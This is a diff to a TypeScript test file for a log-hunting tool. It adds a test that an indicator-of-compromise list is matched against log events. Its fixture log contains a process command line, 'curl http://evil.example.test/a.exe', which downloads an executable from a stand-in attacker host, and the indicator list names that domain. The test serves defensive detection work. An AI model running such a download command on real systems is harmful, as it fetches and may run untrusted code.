@@ -52,6 +52,7 @@ interface JsonResult {
   readonly rules: readonly { readonly title: string; readonly count: number; readonly level: string }[];
   readonly coverage: {
     readonly rulesLoaded: number;
+    readonly indicators?: { readonly loaded: number; readonly skippedTotal: number };
     readonly skipped: readonly { readonly path: string; readonly reason: string }[];
     readonly badRecords: {
       readonly total: number;
@@ -255,6 +256,27 @@ test('rules test fails when a rule no longer finds its events, or finds others',
     assert.equal(run.code, code, run.stdout + run.stderr);
     assert.match(run.stdout, message);
   }
+});
+
+test('indicators are seen in the same pass, with the same evidence, and entries that cannot be used are told', async () => {
+  const path = await logFile('indicators.jsonl', [HARMLESS, processCreation('curl http://evil.example.test/a.exe', 3)]);
+  const list = join(directory, 'list.csv');
+  await writeFile(list, 'type,value,name\ndomain,evil.example.test,Bad host\nsha256,not a hash,Broken\n');
+  const run = await sekisho(['hunt', path, '--iocs', list, '--json'], { cwd: directory });
+  assert.equal(run.code, 5, run.stderr);
+  const { found, findings, coverage } = JSON.parse(run.stdout) as JsonResult;
+  assert.equal(findings, 1);
+  const [finding] = found;
+  assert.match(finding!.rule.title, /^Indicator seen: Bad host/);
+  assert.equal(
+    finding!.rule.sha256,
+    createHash('sha256')
+      .update(await readFile(list))
+      .digest('hex'),
+  );
+  assert.equal(finding!.evidence[0]!.position.record, 2);
+  assert.ok(finding!.evidence[0]!.matched.some(({ field, value }) => field === 'CommandLine' && value.includes('evil.example.test')));
+  assert.deepEqual([coverage.indicators!.loaded, coverage.indicators!.skippedTotal], [1, 1]);
 });
 
 test('Ctrl-C ends the hunt with what was found so far, says so, and is code 130', async () => {
